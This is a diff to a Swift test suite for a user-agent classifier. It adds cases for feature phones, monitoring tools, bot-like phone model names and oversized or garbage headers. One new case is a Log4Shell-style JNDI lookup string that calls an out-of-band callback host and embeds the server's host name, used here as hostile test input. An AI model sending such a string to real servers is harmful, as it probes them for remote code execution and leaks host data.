@@ -521,9 +521,38 @@ enum UserAgentCorpus {
         C.other("Mozilla/5.0"),
         C.other("Amazon CloudFront"),
         C.other("-"),
+        // Feature phones that name their browser and no platform Ferry knows
+        C.other("Mozilla/4.0 SonyEricssonK850iv/R1CA"),
+        C.other("Mozilla/4.08 (N902i;FOMA;c300;TB;W24H12)"),
+        C.other("Mozilla/4.1 (compatible; Teleca Q7; BMP 1.0.1; U; en) 240X400 LG-AN510"),
+        C.other("DoCoMo/2.0 P903i(c100;TB;W24H12)"),
+        C.other("0HuaweiU5705/Huawei/1.0/B100 Browser/Obigo-Browser/Q05A MMS/Obigo-MMS/Q05A SyncML/HW-SyncML/1.0 Java/HWJa/1.0 Profile/MIDP-2.0 Configuration/CLDC-1.1 Player/QTV"),
     ]
 
-    static let all: [UserAgentCase] = linkPreviewBots + crawlers + tools + iOS + android + desktop + other
+    // MARK: Programs that say what they are and nothing a browser says
+
+    static let unidentified: [UserAgentCase] = [
+        C.bot("Zeno", "unidentified"),
+        C.bot("Seobility", "unidentified"),
+        C.bot("Castopod/1.0", "unidentified"),
+        C.bot("Mozilla/5.0 (compatible; Dormouse/1.0)", "unidentified"),
+        C.bot("Mozilla/5.0 SeznamEmailProxy/2.0.174", "unidentified"),
+        C.bot("collectd/5.5.1", "unidentified"),
+        C.bot("Grafana/11.1.0", "unidentified"),
+        C.bot("${jndi:ldap://${hostName}.useragent.example.oast.live}", "unidentified"),
+        // A phone whose model has a crawler's word in it, and one named after a scanner.
+        C.android("Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.96 Mobile Safari/537.36", "7.0"),
+        C.android("Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36", "13"),
+        C.android("Mozilla/5.0 (Linux; Android 8.0.0; Expanse) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/86.0.4240.99 Mobile Safari/537.36", "8.0.0"),
+        C.bot("Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers' presences on the Internet.", "expanse"),
+        // The same word after the model is a crawler's.
+        C.bot("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36 (compatible; ExampleBot/1.0)", "generic"),
+        // Monitors in a browser's clothes.
+        C.bot("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36 CloudflareObservatory/1.0", "cloudflare"),
+        C.bot("Mozilla/5.0 (Linux; Android 6.0.1; Moto G (4) Build/MPJ24.139-64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.3325.146 Mobile Safari/537.36 PTST/180829.1", "webpagetest"),
+    ]
+
+    static let all: [UserAgentCase] = linkPreviewBots + crawlers + tools + iOS + android + desktop + other + unidentified
 }
 
 @Suite("UserAgentClassifier")
@@ -557,6 +586,9 @@ struct UserAgentClassifierTests {
 
     @Test("TVs, consoles and other platforms", arguments: UserAgentCorpus.other)
     func other(_ testCase: UserAgentCase) { check(testCase) }
+
+    @Test("Programs without a browser's marks, and phones named like bots", arguments: UserAgentCorpus.unidentified)
+    func unidentified(_ testCase: UserAgentCase) { check(testCase) }
 
     @Test("The corpus is large and has no duplicates")
     func corpusSize() {
@@ -611,7 +643,7 @@ struct UserAgentClassifierTests {
 
     // MARK: Empty and hostile input
 
-    @Test("Missing and blank headers are .other", arguments: [nil, "", " ", "\t", "\"\"", "null"] as [String?])
+    @Test("Missing and blank headers are .other", arguments: [nil, "", " ", "\t", "\"\"", "null", "undefined"] as [String?])
     func missingHeader(_ userAgent: String?) {
         #expect(classifier.classify(userAgent) == ClientInfo(platform: .other))
     }
@@ -621,11 +653,12 @@ struct UserAgentClassifierTests {
         let chrome = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
 
         // 10 KB headers.
-        #expect(classifier.classify(String(repeating: "A", count: 10_240)).platform == .other)
+        #expect(classifier.classify(String(repeating: "A", count: 10_240)) == ClientInfo(platform: .bot, botName: "unidentified"))
         #expect(classifier.classify(String(repeating: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) ", count: 240)).platform == .desktop)
-        #expect(classifier.classify(String(repeating: "ab", count: 6_000) + "Googlebot").platform == .other) // beyond the scanned prefix
+        // Beyond the scanned prefix: what is read says nothing of a browser either.
+        #expect(classifier.classify(String(repeating: "ab", count: 6_000) + "Googlebot").botName == "unidentified")
         #expect(classifier.classify(String(repeating: "bot", count: 4_000)).platform == .bot)
-        #expect(classifier.classify(String(repeating: "\u{1F600}", count: 3_000)).platform == .other)
+        #expect(classifier.classify(String(repeating: "\u{1F600}", count: 3_000)).botName == "unidentified")
 
         // Control characters, NUL bytes, CR/LF injection.
         #expect(classifier.classify("Mozilla/5.0 (Windows NT 10.0;\u{0} Win64; x64)\r\n\u{1}\u{7F} AppleWebKit/537.36").platform == .desktop)
@@ -648,7 +681,7 @@ struct UserAgentClassifierTests {
 
         // Tokens at the very end and very start of the header.
         #expect(classifier.classify("x googlebot").botName == "google")
-        #expect(classifier.classify("googlebo").platform == .other)
+        #expect(classifier.classify("googlebo").botName == "unidentified")
         #expect(classifier.classify("iPad").appleDevice == "ipad")
     }
 
